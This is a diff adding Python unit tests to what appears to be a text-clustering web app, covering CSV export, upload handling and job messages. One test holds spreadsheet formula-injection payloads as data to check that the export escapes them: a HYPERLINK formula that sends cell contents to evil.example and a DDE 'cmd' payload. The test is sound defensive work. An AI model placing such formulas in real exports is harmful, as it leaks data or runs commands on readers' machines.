@@ -17,8 +17,11 @@ def test_clip_reports_sizes_not_text() -> None:
     assert inputs.clip("short", 10, "query") == ("short", None)
     text, notice = inputs.clip("x" * 12_345, 100, "query")
     assert text == "x" * 100
+    # It does not promise that the rest fits: a 1,688-character instruction, inside the limit,
+    # was refused by an embedder that reads 256 tokens.
     assert notice == ("The query had 12,345 characters; only the first 100 were used "
-                      "(FACET_UI_MAX_QUERY_CHARS).")
+                      "(FACET_UI_MAX_QUERY_CHARS). The embedder's own limit is in tokens and may "
+                      "be lower.")
 
 
 def test_filters_lines_and_semicolons() -> None:
@@ -157,6 +160,34 @@ def test_a_name_shared_by_some_members_says_so_in_the_table_legend_and_csv(tmp_p
         ("payment", "2 of 3", "card, pay"), ("payment", "2 of 3", "card, pay"), ("refund", "1 of 1", "refund")]
 
 
+def test_csv_export_neutralises_spreadsheet_formulas(tmp_path: Path) -> None:
+    """A clustered text `=HYPERLINK(...)` was written as it was: a spreadsheet opening the export
+    ran it (OWASP "CSV injection"). Every text cell starting with = + - @, a tab or a carriage
+    return gets a leading quote; numbers (a negative map position) stay numbers."""
+    import csv
+
+    from app.services.clustering import Cluster, ClusterResponse
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
+    texts = [evil, "+1 555 0100", "-sum(A1:A9)", "@SUM(A1)", "\tcmd", "\r=1+1", "plain - text"]
+    clusters = [Cluster(0, 4, "=cmd|' /C calc'!A0", ["+plus", "@at"], [evil], [0], (0.0, 0.0)),
+                Cluster(1, 3, "fine", ["-minus"], ["x"], [4], (1.0, 1.0))]
+    response = ClusterResponse(
+        instruction="x", embedder="minilm", explainer=None, k=2, k_chosen=False, silhouette=None,
+        texts=texts, labels=[0, 0, 0, 0, 1, 1, 1], coordinates=[(-0.5, -1.25)] * 7, sources=[],
+        answers=None, clusters=clusters, timings_ms={})
+    labels = ["=1+2", "a", "b", "c", "d", "e", "-f"]
+    with render.write_cluster_csv(response, tmp_path, labels).open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert [r["text"] for r in rows] == ["'" + t for t in texts[:6]] + ["plain - text"]
+    assert rows[0]["cluster_name"] == "'=cmd|' /C calc'!A0"
+    assert rows[0]["cluster_keywords"] == "'+plus, @at" and rows[4]["cluster_keywords"] == "'-minus"
+    assert [r["label"] for r in rows] == ["'=1+2", "a", "b", "c", "d", "e", "'-f"]
+    assert (rows[0]["x"], rows[0]["y"]) == ("-0.5", "-1.25")  # numbers are not texts
+    assert all(not r[key].startswith(("=", "+", "-", "@", "\t", "\r"))
+               for r in rows for key in ("text", "cluster_name", "cluster_keywords", "label"))
+
+
 def test_cluster_summary_says_why_there_are_fewer_clusters() -> None:
     from app.services.clustering import Cluster, ClusterResponse
 
@@ -199,6 +230,8 @@ def test_uploads_are_checked_and_staged(tmp_path: Path) -> None:
     inputs.stage_uploads([ok], tmp_path / "staged").keep()
     assert copies[0].read_text() == "hello again"
     assert not any((tmp_path / ".previous").rglob("*.md"))
+    # Copied under a hidden name, then renamed: nothing half-copied is left or seen.
+    assert [p.name for p in (tmp_path / "staged").iterdir()] == ["Notes (final).md"]
 
 
 def test_upload_names_keep_their_script_and_never_collide_silently(tmp_path: Path) -> None:
@@ -231,6 +264,36 @@ def test_upload_names_keep_their_script_and_never_collide_silently(tmp_path: Pat
     again = inputs.stage_uploads([src / "Notes (final).md"], old)
     assert [c.name for c in again.copies] == ["Notes_final_.md"] and sorted(p.name for p in old.iterdir()) == [
         "Notes_final_.md"]
+
+
+def test_uploads_that_cannot_be_indexed_are_not_kept(tmp_path: Path) -> None:
+    """A binary .txt or an empty file stayed in the collection's upload folder for good: every
+    later upload job listed the same errors again and the collection counted them as failed.
+    Only files that cannot be indexed at all go; a bad record leaves its file alone."""
+    folder = tmp_path / "uploads" / "notes"
+    folder.mkdir(parents=True)
+    (folder / "good.txt").write_text("The keeper polishes the lens.")
+    (folder / "scan.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00" + bytes(range(256)))
+    (folder / "empty.txt").write_text("")
+    (folder / "broken.json").write_text("{not json")
+    (folder / "msgs.jsonl").write_text('{"text": "fine"}\n{oops\n')
+    errors = [str(folder / name) for name in ("scan.txt", "empty.txt", "broken.json")] + [
+        f"{folder / 'msgs.jsonl'}#L2",  # one bad record: the file's other records are indexed
+        str(folder / "good.txt"),       # an error of the server's (a worker), not of the file
+        str(tmp_path / "elsewhere.txt"), "a-record-id"]
+    gone = inputs.drop_unindexable(folder, errors, max_bytes=2**20)
+    assert gone == ["scan.txt", "empty.txt", "broken.json"]
+    assert sorted(p.name for p in folder.iterdir()) == ["good.txt", "msgs.jsonl"]
+    # Asked again (the bar is polled), the same answer: they are still not kept.
+    assert inputs.drop_unindexable(folder, errors, max_bytes=2**20) == gone
+    # A file fixed and uploaded again since is kept.
+    (folder / "empty.txt").write_text("now with text")
+    assert inputs.drop_unindexable(folder, errors, max_bytes=2**20) == ["scan.txt", "broken.json"]
+    assert (folder / "empty.txt").exists()
+    # Only asked what is gone (the bar polled again): nothing is parsed or removed.
+    (folder / "scan.txt").write_bytes(b"\x00\x01")
+    assert inputs.drop_unindexable(folder, errors, max_bytes=2**20, remove=False) == ["broken.json"]
+    assert (folder / "scan.txt").exists()
 
 
 def test_folders_only_under_roots(tmp_path: Path) -> None:
@@ -301,6 +364,38 @@ def test_job_errors_name_files_relative_to_the_source() -> None:
                                       "bytes), not text"}])
     assert render.job_error_rows(job) == [
         ["scan.txt", "error", "sub/scan.txt looks binary (NUL or control bytes), not text"]]
+
+
+def _job(state: str, message: str | None, job_id: int = 7) -> JobInfo:
+    return JobInfo(id=job_id, collection="notes", source="/srv/facet/data/uploads/notes",
+                   embedder="minilm", state=state, docs_seen=40, docs_indexed=40, docs_skipped=0,
+                   docs_failed=0, docs_deleted=0, chunks_written=40, timings={},
+                   started_at="2026-11-28T10:00:00", finished_at=None, resumed_from=None,
+                   message=message)
+
+
+def test_a_stopped_job_says_what_happened_and_what_to_do_on_the_page() -> None:
+    """A job stopped by a server restart showed "interrupted" in the jobs table and nothing
+    else; its message named a command line (`facet index ... --collection ...`)."""
+    stopped = _job("interrupted", "stopped (the server stopping) with 40 documents indexed; run "
+                   "`facet index /srv/facet/data/uploads/notes --collection notes --embedder "
+                   "minilm` (or submit the job) again to resume: what was indexed is kept")
+    said = render.job_message(stopped, "press Resume")
+    assert said == "stopped (the server stopping) with 40 documents indexed; press Resume"
+    assert render.job_message(stopped) == "stopped (the server stopping) with 40 documents indexed"
+    # Taken up by a later job already: nothing to do.
+    resumed = _job("interrupted", "stopped (the server stopping) with 40 documents indexed; "
+                   "resumed by job 9")
+    assert render.job_message(resumed, "press Resume") == resumed.message
+    failed = _job("failed", "ConflictError: collection 'notes' is being written", 8)
+    assert render.job_rows([failed, stopped], {7: said}) == [
+        [8, "notes", "failed", 40, 40, 0, 40, "minilm", "2026-11-28T10:00:00",
+         "ConflictError: collection 'notes' is being written"],
+        [7, "notes", "interrupted", 40, 40, 0, 40, "minilm", "2026-11-28T10:00:00", said]]
+    assert render.JOB_COLUMNS[-1] == "message"
+    bar = render.job_html(stopped, 100, message=said, notices=["Not kept: scan.txt"])
+    assert "Job 7 into <b>notes</b> <b>interrupted</b>" in bar and "press Resume" in bar
+    assert "facet index" not in bar and "Not kept: scan.txt" in bar
 
 
 def test_unexpected_errors_show_a_generic_message_not_the_exception(caplog) -> None:
